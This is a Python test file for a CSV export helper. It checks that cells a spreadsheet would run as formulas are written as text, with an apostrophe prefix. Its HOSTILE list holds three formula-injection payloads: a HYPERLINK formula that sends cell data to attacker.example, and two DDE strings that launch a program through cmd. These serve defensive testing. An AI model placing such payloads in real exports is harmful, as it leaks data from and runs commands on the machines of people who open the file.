"""CSV cells a spreadsheet would run as formulas are written as text (analysis/spreadsheet.py)."""

from __future__ import annotations

import csv
from pathlib import Path

from analysis.spreadsheet import spreadsheet_safe, write_csv

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_cells_are_written_as_text_and_everything_else_as_it_is(tmp_path: Path) -> None:
    rows = [{"resource": name, "month": "2021-03", "score": -0.25} for name in HOSTILE]
    rows += [
        {"resource": "-0.5", "month": "-", "score": None},  # a number as text, and a lone dash: kept
        {"resource": "-\tx", "month": "\tx", "score": 1},
        {"resource": "plain page", "month": "2020-01", "score": 0},
    ]
    path = tmp_path / "resources.csv"
    write_csv(path, rows, ["resource", "month", "score"])
    with path.open(newline="") as handle:
        read = list(csv.DictReader(handle))
    assert [r["resource"] for r in read] == ["'" + h for h in HOSTILE] + ["-0.5", "'-\tx", "plain page"]
    assert [r["month"] for r in read] == ["2021-03"] * 3 + ["-", "'\tx", "2020-01"]
    assert [r["score"] for r in read] == ["-0.25"] * 3 + ["", "1", "0"]  # numbers are never touched
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe("=") == "=" and spreadsheet_safe(None) is None
